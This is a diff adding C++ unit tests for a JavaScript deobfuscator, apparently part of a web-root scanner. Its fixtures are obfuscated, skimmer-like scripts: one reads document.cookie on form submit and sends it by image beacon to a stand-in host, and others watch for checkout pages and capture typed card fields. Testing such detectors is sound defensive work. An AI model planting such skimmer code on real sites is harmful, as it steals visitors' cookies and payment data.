@@ -320,5 +320,107 @@ TEST(JsEval, StepsAreChargedToTheFoldBudget) {
   EXPECT_EQ(budget.eval_refused.begin()->rfind("js:d@", 0), 0u);
 }
 
+TEST(JsEval, ComputedArgumentsAreReadWhereTheTracedRunCallsTheDecoder) {
+  // A flattened function: a state machine over an array, the decoder's arguments computed from
+  // it, the page's objects in between, the whole handed to the page as a listener.
+  std::string host = Shift("https://stats.example.top/c", 3);
+  std::string src =
+      "function d(s,k){var o='';for(var i=0;i<s.length;i++){o+=String.fromCharCode(s.charCodeAt(i)"
+      "-k);}return o;}var T=['" +
+      host + "','" + Shift("cookie", 3) +
+      "'];document.querySelector('form').addEventListener('submit',function(e){"
+      "var st=[7,1,0];while(st[0]!==0){switch(st[0]+st[1]){case 8:var v=document[d(T[st[2]+1],"
+      "st[1]+2)]+'';st[0]=3;break;case 4:new Image().src=d(T[st[2]],st[0]);st[0]=0;break}}});";
+  std::string out = Folded(src);
+  EXPECT_NE(out.find("newImage().src='https://stats.example.top/c'"), std::string::npos) << out;
+  EXPECT_NE(out.find("document['cookie']"), std::string::npos) << out;
+
+  // A call site that returns one string on one visit and another on the next stays a call.
+  src =
+      "function d(s,k){return String.fromCharCode(s.charCodeAt(0)-k)}var a=[4,5];for(var i=0;"
+      "i<2;i++){window.x=d('h',a[i])}";
+  out = Folded(src);
+  EXPECT_NE(out.find("d('h',a[i])"), std::string::npos) << out;
+
+  // A test of what the page holds: the run goes on past a guard (the branch that does not
+  // leave), and a loop over it runs once.
+  src =
+      "function d(s,k){return String.fromCharCode(s.charCodeAt(0)-k)}document.addEventListener("
+      "'x',function(){if(location.href.indexOf('checkout')<0){return}var n=0;for(var i=0;"
+      "i<document.forms.length;i++){n++}window.y=d('h',n)});";
+  out = Folded(src);
+  EXPECT_NE(out.find("window.y='g'"), std::string::npos) << out;
+
+  // A host value is never taken as a number or text.
+  src =
+      "function d(s,k){return String.fromCharCode(s.charCodeAt(0)-k)}"
+      "window.z=d('h',location.hash.length);";
+  out = Folded(src);
+  EXPECT_NE(out.find("d('h',location.hash.length)"), std::string::npos) << out;
+}
+
+TEST(JsEval, TheTracedRunFollowsListenersAndWhatTheyStore) {
+  const std::string d = "function d(s,k){return String.fromCharCode(s.charCodeAt(0)-k)}";
+  // The listeners a listener adds run before the next one the script added: the page is left
+  // after the visitor typed, so the store the keyup filled is not empty on unload (its
+  // properties are named by the page: a missing one is not known to be undefined).
+  std::string src = d +
+                    "var st={};document.addEventListener('DOMContentLoaded',function(){['a','b']"
+                    ".forEach(function(id){var e=document.getElementById(id);e.addEventListener("
+                    "'keyup',function(){st[e.id]=e.value})})});window.addEventListener('unload',"
+                    "function(){if(!st.cc){return}window.u=d('h',2)});";
+  std::string out = Folded(src);
+  EXPECT_NE(out.find("window.u='f'"), std::string::npos) << out;
+  // Without a write the page named, a missing property is undefined: the guard leaves.
+  src = d +
+        "var st={};window.addEventListener('unload',function(){var k=st.cc?1:2;"
+        "window.u=d('h',k)});";
+  out = Folded(src);
+  EXPECT_NE(out.find("window.u='f'"), std::string::npos) << out;
+  // Arrays' callbacks: map, filter, reduce, some, every, forEach on the file's functions.
+  src = d +
+        "var r=[1,2,3].map(function(x){return x*2}).filter(function(x){return x>2})"
+        ".reduce(function(a,x){return a+x},0);var ok=[1].some(function(x){return x==1})&&"
+        "[1].every(function(x){return x==1});window.v=d('r',ok?r-9:0);";
+  out = Folded(src);
+  EXPECT_NE(out.find("window.v='q'"), std::string::npos) << out;
+  // A packed layer's own `return` ends the script with what it wrote settled.
+  src = d + "var k=1;k=2;return document.addEventListener('x',function(){window.w=d('h',k)});";
+  out = Folded(src);
+  EXPECT_NE(out.find("window.w='f'"), std::string::npos) << out;
+}
+
+TEST(JsEval, MethodsAndConstructorsOfTheFile) {
+  // An object literal's methods (a plain and a computed key) and `new` of the file's function.
+  std::string out = Folded(
+      "var o={sh(s,k){return String.fromCharCode(s.charCodeAt(0)-k)},['r'+'v'](s){return "
+      "s.split('').reverse().join('')}};function K(n){this.n=n}function d(s){var k=new K(1);"
+      "return o.rv(o.sh(s,k.n)+'b').split('').join('')}var x=d('b');");
+  EXPECT_NE(out.find("varx='ba'"), std::string::npos) << out;
+  // A getter is no method: the object is not read.
+  out = Folded("var o={get sh(){return 1}};function d(s){return s.charAt(o.sh)}var x=d('ab');");
+  EXPECT_NE(out.find("d('ab')"), std::string::npos) << out;
+}
+
+TEST(JsEval, TheTracedRunIsBounded) {
+  // A listener that never ends: the run stops at its own step limit (2^23), whatever the
+  // file's budget still holds, and what it took is charged to that budget.
+  std::string src =
+      "function d(s,k){return String.fromCharCode(s.charCodeAt(0)-k)}var n=1;"
+      "document.body.addEventListener('x',function(){for(;;){n=n+1}});"
+      "setTimeout(function(){window.q=d('h',n)},1);";
+  FoldBudget budget;
+  budget.eval_steps_left = size_t{1} << 30;
+  size_t before = budget.eval_steps_left;
+  std::vector<Token> t = Lex(src);
+  FoldJsDecoders(t, budget);
+  EXPECT_GT(before - budget.eval_steps_left, size_t{1} << 22);
+  EXPECT_LE(before - budget.eval_steps_left, (size_t{1} << 23) + (size_t{1} << 18));
+  // Once a layer: a second call runs the script's own statements only, not the traced run.
+  size_t left = budget.eval_steps_left;
+  FoldJsDecoders(t, budget);
+  EXPECT_LT(left - budget.eval_steps_left, 1000u);
+}
+
 }  // namespace
 }  // namespace tq::webroot
